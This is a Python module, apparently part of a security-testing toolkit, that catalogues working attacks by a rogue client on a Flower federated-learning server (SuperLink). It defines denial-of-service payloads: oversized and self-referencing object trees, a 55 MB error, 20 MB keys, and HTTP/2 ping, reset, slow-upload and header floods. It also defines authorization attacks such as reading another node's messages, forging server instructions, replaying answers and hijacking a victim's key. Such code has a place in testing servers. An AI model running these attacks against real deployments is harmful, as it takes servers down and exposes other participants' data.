"""What a rogue does to the server itself, by name: to its threads, its store and its identities.

Each returns one line on what came of it. Most need no more than one registered key; those of
`STRANGERS` need none at all.
"""

import contextlib
import hashlib
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import grpc
from flwr.app import MetricRecord

from blackthorn.flower_port.fleet import (
    METHODS,
    Error,
    FleetStub,
    Keys,
    Node,
    fleet_pb2,
    generate_key_pairs,
    message_pb2,
    now,
    public_key_to_bytes,
    signature,
    signing,
)
from blackthorn.wire import NUM_EXAMPLES

from . import http2

_PUSH = f"{METHODS}PushMessages"
_PULL = f"{METHODS}PullMessages"
_CALL_SECONDS = 30.0
_SUPERLINK = 1
# Seconds for which Flower takes a node for alive at most.
_LONGEST_HEARTBEAT = 1800


@dataclass
class Peer:
    """A way to a SuperLink: its address, its authority, and the key that requests are signed with.

    `node_id` is the key's node; `order` the metadata of a message it was sent (None: of none);
    `victim` another client's public key, `others_message` the id of a message to another node.
    """

    address: str
    root_certificates: bytes | None = None
    keys: Keys | None = None
    node_id: int = 0
    order: Any = None
    victim: bytes = b""
    others_message: str = ""

    @contextlib.contextmanager
    def stub(self) -> Iterator[FleetStub]:
        """The Fleet API over a connection of its own."""
        with self.channel() as channel:
            yield FleetStub(channel)

    @contextlib.contextmanager
    def channel(self) -> Iterator[grpc.Channel]:
        """A connection whose calls are signed with the key."""
        options = [
            ("grpc.use_local_subchannel_pool", 1),
            ("grpc.enable_http_proxy", 0),
            ("grpc.max_send_message_length", -1),
        ]
        if self.root_certificates is None:
            channel = grpc.insecure_channel(self.address, options)
        else:
            trust = grpc.ssl_channel_credentials(self.root_certificates)
            channel = grpc.secure_channel(self.address, trust, options)
        with channel:
            yield channel if self.keys is None else signing(channel, self.keys)

    def signed(self) -> list[tuple[str, str | bytes]]:
        """The headers that prove the key."""
        return [] if self.keys is None else signature(self.keys)

    def public_key(self) -> bytes:
        """The node's public key as the SuperLink knows it, PEM; empty for a node without keys."""
        return b"" if self.keys is None else public_key_to_bytes(self.keys[1])

    def raw(self) -> contextlib.AbstractContextManager[http2.Connection]:
        """HTTP/2 to the SuperLink frame by frame, for what no gRPC library would send."""
        return http2.connected(self.address, self.root_certificates)


Attack = Callable[[Peer], str]


def object_id(number: int) -> str:
    """An id of the form that Flower's objects have, SHA-256 in hex, of an object without bytes."""
    return hashlib.sha256(number.to_bytes(8)).hexdigest()


def many_ids(peer: Peer, count: int = 50_000) -> str:
    """An answer of 50,000 objects: each costs the store 2.5 ms."""
    tree = message_pb2.ObjectTree(object_id=object_id(0))
    for number in range(1, count):
        tree.children.add(object_id=object_id(number))
    return push(peer, tree)


def object_tree(peer: Peer, levels: int = 17) -> str:
    """Levels that refer to the next one twice: a few kilobytes that stand for 2^levels objects."""
    root = object_id(10**6)
    tree = message_pb2.ObjectTree(object_id=root)
    upper = tree
    for level in range(levels):
        left = upper.children.add(object_id=object_id(10**6 + 2 * level + 1))
        right = upper.children.add(object_id=object_id(10**6 + 2 * level + 2))
        # Both have the same parts; the store remembers them from where they come first.
        right.children.add(object_id=object_id(10**6 + 2 * level + 3))
        right.children.add(object_id=object_id(10**6 + 2 * level + 4))
        upper = left
    return push(peer, tree)


def foreseen_objects(peer: Peer) -> str:
    """What others may send, announced before them as consisting of a part that is nowhere."""
    tree = message_pb2.ObjectTree(object_id=object_id(3 * 10**6))
    for count in range(1, 41):
        record = tree.children.add(object_id=MetricRecord({NUM_EXAMPLES: count}).object_id)
        record.children.add(object_id=object_id(3 * 10**6 + 1))
    return push(peer, tree)


def other_node(peer: Peer) -> str:
    """Asks for another node's messages."""
    node = Node(node_id=peer.node_id + 1)
    return _call(peer, "PullMessages", fleet_pb2.PullMessagesRequest(node=node))


def repeated_answer(peer: Peer, times: int = 12) -> str:
    """One answer, announced again and again: each time the store looks for all its objects."""
    tree = message_pb2.ObjectTree(object_id=object_id(4 * 10**6))
    for part in range(20):
        tree.children.add(object_id=object_id(4 * 10**6 + 1 + part))
    head = _answering(peer)
    head.message_id = tree.object_id
    return [push(peer, tree, head) for _ in range(times)][-1]


def long_error(peer: Peer, size: int = 55_000_000) -> str:
    """An error whose text has 55 MB."""
    tree = message_pb2.ObjectTree(object_id=object_id(2 * 10**6))
    return push(peer, tree, error=Error(code=2, reason="x" * size))


def million_metrics(peer: Peer, count: int = 1_000_000) -> str:
    """A record of a million numbers, announced as one object and uploaded in one piece."""
    body = b"MetricRecord  %d\x00" % (24 * count) + bytes(24 * count)
    return _upload(peer, body)


def instruction(peer: Peer) -> str:
    """A message that claims to come from the server, to a node."""
    metadata = _answering(peer)
    metadata.src_node_id, metadata.dst_node_id = _SUPERLINK, peer.node_id
    metadata.reply_to_message_id = ""
    return push(peer, message_pb2.ObjectTree(object_id=metadata.message_id), metadata)


def others_message(peer: Peer) -> str:
    """The answer to a message that another node was sent."""
    metadata = _answering(peer)
    metadata.reply_to_message_id = peer.others_message or object_id(10)
    return push(peer, message_pb2.ObjectTree(object_id=metadata.message_id), metadata)


def replay(peer: Peer) -> str:
    """An answer to this message, and then another one."""
    first = push(peer, message_pb2.ObjectTree(object_id=object_id(3 * 10**6)))
    second = push(peer, message_pb2.ObjectTree(object_id=object_id(3 * 10**6 + 1)))
    return f"first: {first}; second: {second}"


def other_key(peer: Peer) -> str:
    """Activate the node of a key that is somebody else's."""
    request = fleet_pb2.ActivateNodeRequest(
        public_key=peer.victim, heartbeat_interval=_LONGEST_HEARTBEAT
    )
    return _call(peer, "ActivateNode", request)


def long_key(peer: Peer, size: int = 20_000_000) -> str:
    """Register a key of 20 MB: it would be a line of the log."""
    return _call(
        peer, "RegisterNode", fleet_pb2.RegisterNodeFleetRequest(public_key=b"\xff" * size)
    )


def registrations(peer: Peer, count: int = 1000) -> str:
    """Register a thousand keys over one connection."""
    taken = 0
    with Peer(peer.address, peer.root_certificates).stub() as stub:
        for _ in range(count):
            keys = generate_key_pairs()
            request = fleet_pb2.RegisterNodeFleetRequest(public_key=public_key_to_bytes(keys[1]))
            with contextlib.suppress(grpc.RpcError):
                stub.RegisterNode(request, metadata=signature(keys), timeout=_CALL_SECONDS)
                taken += 1
    return f"{taken} of {count} taken"


@contextlib.contextmanager
def half_open(peer: Peer, streams: int = 1000) -> Iterator[str]:
    """Hold streams of which no more than the headers are sent."""
    each = 100
    with contextlib.ExitStack() as stack:
        held = 0
        with contextlib.suppress(OSError):
            while held < streams:
                connection = stack.enter_context(peer.raw())
                for _ in range(each):
                    connection.begin(_PUSH, peer.signed())
                    held += 1
        yield f"{held} streams"


@contextlib.contextmanager
def stalled_handshakes(peer: Peer, count: int = 200) -> Iterator[str]:
    """Hold connections that never finish, or begin, what TLS asks for."""
    with contextlib.ExitStack() as stack:
        held: list[socket.socket] = []
        with contextlib.suppress(OSError):
            for _ in range(count):
                held.append(stack.enter_context(http2.tcp(peer.address)))
                held[-1].sendall(b"\x16\x03\x01\x02\x00")
        yield f"{len(held)} connections"


def slow_upload(peer: Peer, seconds: float = 15.0) -> str:
    """A request of which a byte comes each second."""
    with peer.raw() as connection:
        stream = connection.begin(_PUSH, peer.signed())
        end = time.monotonic() + seconds
        sent = 0
        with contextlib.suppress(OSError):
            while time.monotonic() < end:
                connection.send(stream, http2.message(bytes(1000))[sent : sent + 1])
                sent += 1
                time.sleep(1.0)
    return f"{sent} bytes"


def pings(peer: Peer, count: int = 100_000) -> str:
    """HTTP/2 pings, one after the other."""
    sent = 0
    with contextlib.suppress(OSError), peer.raw() as connection:
        for _ in range(count):
            connection.ping()
            sent += 1
    return f"{sent} of {count} pings sent before the connection was closed"


def resets(peer: Peer, count: int = 20_000) -> str:
    """Requests that are taken back as soon as they have begun."""
    sent = 0
    with contextlib.suppress(OSError), peer.raw() as connection:
        headers = peer.signed()
        for _ in range(count):
            connection.reset(connection.begin(_PULL, headers))
            sent += 1
    return f"{sent} of {count} resets sent before the connection was closed"


def endless_headers(peer: Peer, count: int = 5000) -> str:
    """A request whose headers go on and on, 3 KB in a frame."""
    sent = 0
    with contextlib.suppress(OSError), peer.raw() as connection:
        stream = connection.begin(_PULL, peer.signed(), whole=False)
        for number in range(count):
            connection.more_headers(stream, [(f"more-{number}", "x" * 3000)])
            sent += 1
    return f"{sent} of {count} frames sent before the connection was closed"


ATTACKS: dict[str, Attack] = {
    "many-ids": many_ids,
    "object-tree": object_tree,
    "foreseen-objects": foreseen_objects,
    "repeated-answer": repeated_answer,
    "other-node": other_node,
    "long-error": long_error,
    "million-metrics": million_metrics,
    "instruction": instruction,
    "others-message": others_message,
    "replay": replay,
    "other-key": other_key,
    "long-key": long_key,
    "registrations": registrations,
    "slow-upload": slow_upload,
    "pings": pings,
    "resets": resets,
    "endless-headers": endless_headers,
}
HELD = {"half-open": half_open, "stalled-handshakes": stalled_handshakes}


def _answering(peer: Peer) -> message_pb2.Metadata:
    """The head of an answer to the order, or to no message that there is."""
    order = peer.order or message_pb2.Metadata(message_id=object_id(9), message_type="train")
    return message_pb2.Metadata(
        run_id=order.run_id,
        message_id=object_id(8),
        src_node_id=peer.node_id,
        dst_node_id=_SUPERLINK,
        reply_to_message_id=order.message_id,
        group_id=order.group_id,
        ttl=1.0,
        message_type=order.message_type,
        created_at=now().timestamp(),
    )


def push(
    peer: Peer,
    tree: message_pb2.ObjectTree,
    metadata: message_pb2.Metadata | None = None,
    error: Error | None = None,
) -> str:
    """Announce the tree as the answer; what the server said to it."""
    if metadata is None:
        metadata = _answering(peer)
        metadata.message_id = tree.object_id
    message = message_pb2.Message(metadata=metadata)
    if error is None:
        message.content.SetInParent()
    else:
        message.error.CopyFrom(error)
    request = fleet_pb2.PushMessagesRequest(
        node=Node(node_id=peer.node_id), messages_list=[message], message_object_trees=[tree]
    )
    return _call(peer, "PushMessages", request)


def _upload(peer: Peer, content: bytes) -> str:
    """Announce one object as the answer, and upload it."""
    root = hashlib.sha256(content).hexdigest()
    announced = push(peer, message_pb2.ObjectTree(object_id=root))
    request = message_pb2.PushObjectRequest(
        node=Node(node_id=peer.node_id),
        run_id=peer.order.run_id if peer.order else 0,
        object_id=root,
        object_content=content,
    )
    return f"announced: {announced}; uploaded: {_call(peer, 'PushObject', request)}"


def _call(peer: Peer, method: str, request: Any) -> str:
    with peer.stub() as stub:
        try:
            getattr(stub, method)(request, timeout=_CALL_SECONDS)
        except grpc.RpcError as error:
            return f"{error.code().name}: {error.details()[:200]}"
    return "taken"
